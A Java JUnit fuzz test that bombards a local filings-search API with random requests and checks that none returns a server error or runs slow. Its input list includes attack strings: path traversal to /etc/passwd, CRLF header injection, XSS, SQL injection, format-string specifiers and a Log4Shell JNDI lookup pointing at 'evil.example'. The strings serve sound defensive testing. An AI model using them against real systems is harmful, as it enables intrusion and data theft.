package dev.caveat.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.caveat.Seeds;
import dev.caveat.http.ServerSettings;
import dev.caveat.library.RequestParameters.Parameter;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Whatever is asked, the answer is no internal error, and comes soon. */
@Tag("slow")
final class ApiFuzzTest {
  private static final int REQUESTS = Integer.getInteger("caveat.fuzz", 1_000);
  private static final double MAX_SECONDS = 10;

  /** These are asked less often, so that the others are asked more. */
  private static final Set<String> COSTLY =
      Set.of("/report", "/measures", "/compare", "/filings/{id}/risks/{n}/label");

  /** Each in place of a value, a name, a path or a part of a body. */
  private static final List<String> ODD =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "1",
          "99999999999999999999",
          "1e9",
          "NaN",
          "true",
          "null",
          "*",
          "?*?",
          "10-K*",
          "a*",
          "*a*",
          "~",
          "fuzzy~9",
          "\"",
          "\"a b\"~999999999",
          "(",
          "((((((((((((((((((((((((((((((((((((a))))))))))))))))))))))))))))))))))))",
          "a AND OR NOT b",
          "NOT a",
          "heading:",
          "heading:(a OR body:b)",
          "unknown:x",
          "Ostrellan 2024",
          "ostrellan 9999",
          "0009900001-23-000031",
          "0009900001-23-000031#1",
          "#",
          "#1",
          "a#b#1",
          "risk",
          "supply-chain",
          "present,absent,,",
          "sic",
          "sic:36*",
          "sic:",
          ">= 1 million USD",
          "1 million..",
          "..",
          "5..1",
          "< -1",
          "= 1e999999999",
          "2003-13-45",
          "2003..1999",
          "FY0000",
          "9999-9998",
          "../../../../etc/passwd",
          "/etc/passwd",
          "file:///etc/passwd",
          "corpora/filings/ostrellan-imaging_10-K_2024.htm",
          "C:\\windows\\win.ini",
          "a\u0000b",
          "a\nb\r\nSet-Cookie: x=1",
          "<script>alert(1)</script>",
          "'; DROP TABLE filings; --",
          "${jndi:ldap://evil.example/a}",
          "%s%n%x",
          "\u202Eright\u202C to left",
          "\uD83D\uDE00 \uD83D",
          "\u0130\u00DF\uFB03 e\u0301",
          "\uFFFF\uFFFE",
          "x".repeat(3000),
          "a ".repeat(2000),
          "\u4E2D".repeat(700),
          "(a OR b) ".repeat(300),
          "a* ".repeat(500),
          "a,".repeat(300),
          "lens~2 ".repeat(40));

  private static final List<String> BODIES =
      List.of(
          "",
          "{}",
          "[]",
          "null",
          "[[[[]]]]",
          "{\"id\": %s, \"text\": %s}",
          "[{\"id\": %s, \"heading\": %s, \"text\": %s}]",
          "{\"categories\": %s}",
          "{\"categories\": [%s, %s]}",
          "{\"id\": {\"a\": %s}}",
          "<html><body><p>Item 1A. Risk Factors</p><p>%s</p></body></html>",
          "<SEC-DOCUMENT>%s<TYPE>10-K<TEXT>%s",
          "PK\u0003\u0004%s",
          "{\"id\":1,\"text\":\"\\ud800%s\"}");

  @TempDir Path folder;
  private final ConcurrentLinkedQueue<String> wrong = new ConcurrentLinkedQueue<>();

  @Test
  @Timeout(value = 15, unit = TimeUnit.MINUTES)
  void neverFailsAndNeverTakesLong() throws IOException {
    long seed = Seeds.or(20261128);
    List<Path> few =
        Served.filings().stream().filter(p -> p.toString().contains("ostrellan")).toList();
    Path index = Served.index(folder, few);
    try (Served served = Served.over(index, ServerSettings.builder().maxUpload(1 << 20))) {
      IntStream.range(0, REQUESTS)
          .parallel()
          .forEach(i -> one(served, new Random(seed + i), seed + i));
      assertThat(wrong).isEmpty();
      assertThat(served.defects()).isEmpty();
    }
  }

  private void one(Served served, Random random, long seed) {
    List<Endpoint> endpoints = served.api.endpoints();
    Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
    if (COSTLY.contains(endpoint.path()) && random.nextInt(4) > 0) {
      endpoint = endpoints.getFirst();
    }
    String request = path(endpoint, random) + query(endpoint, random);
    String method = random.nextInt(10) == 0 ? "DELETE" : endpoint.method().name();
    String body = method.equals("GET") ? "" : body(random);
    long start = System.nanoTime();
    try {
      String answer =
          served.client.raw(
              method
                  + " "
                  + request
                  + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                  + (random.nextInt(5) == 0 ? "Accept-Encoding: gzip\r\n" : "")
                  + (random.nextInt(9) == 0 ? "Content-Type: multipart/form-data\r\n" : "")
                  + "Content-Length: "
                  + body.length()
                  + "\r\n\r\n"
                  + body);
      double seconds = (System.nanoTime() - start) / 1e9;
      if (!answer.matches("(?s)HTTP/1.1 [234]\\d\\d .*") || seconds > MAX_SECONDS) {
        wrong.add(seed + ": " + seconds + " s: " + method + " " + request + " " + body + answer);
      }
    } catch (IOException e) {
      wrong.add(seed + ": " + method + " " + request + ": " + e);
    }
  }

  private static String path(Endpoint endpoint, Random random) {
    String path = Api.ROOT + endpoint.path();
    if (random.nextInt(3) > 0) {
      path = path.replace("{id}", "Ostrellan%202024");
    }
    if (random.nextInt(3) > 0) {
      path = path.replace("{n}", Integer.toString(random.nextInt(4)));
    }
    while (path.contains("{")) {
      path = path.replaceFirst("\\{\\w+}", odd(random).replace("$", "").replace("\\", ""));
    }
    return random.nextInt(40) == 0 ? path + "/" + odd(random) : path;
  }

  private static String query(Endpoint endpoint, Random random) {
    List<String> names = new ArrayList<>(endpoint.queryNames());
    if (random.nextInt(20) == 0) {
      names.add(odd(random));
    }
    List<String> pairs = new ArrayList<>();
    for (int i = random.nextInt(4); i > 0 && !names.isEmpty(); i--) {
      String name = names.get(random.nextInt(names.size()));
      pairs.add(name + "=" + value(endpoint, name, random));
    }
    return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
  }

  private static String value(Endpoint endpoint, String name, Random random) {
    if (name.equals(Cursor.NAME) && random.nextBoolean()) {
      byte[] bytes = new byte[random.nextInt(30)];
      random.nextBytes(bytes);
      return Base64.getUrlEncoder().encodeToString(bytes);
    }
    for (Parameter p : endpoint.parameters()) {
      if (p.name().equals(name) && !p.values().isEmpty() && random.nextBoolean()) {
        return p.values().get(random.nextInt(p.values().size()));
      }
    }
    return odd(random);
  }

  /** Most of them as they should be in an address, some not. */
  private static String odd(Random random) {
    String odd = ODD.get(random.nextInt(ODD.size()));
    return switch (random.nextInt(12)) {
      case 0 -> odd.replaceAll("[\\s\\u0000]", "");
      case 1 -> URLEncoder.encode(encoded(odd), StandardCharsets.UTF_8);
      case 2 -> encoded(odd) + "%zz%";
      case 3 -> encoded(odd) + "%c3%28%ed%a0%80";
      default -> encoded(odd);
    };
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static String body(Random random) {
    String body = BODIES.get(random.nextInt(BODIES.size()));
    while (body.contains("%s")) {
      String odd = ODD.get(random.nextInt(ODD.size()));
      String json = '"' + odd.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
      int at = body.indexOf("%s");
      String put = (random.nextBoolean() ? json : odd).replace("%s", "");
      body = body.substring(0, at) + put + body.substring(at + 2);
    }
    return new String(body.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
  }
}
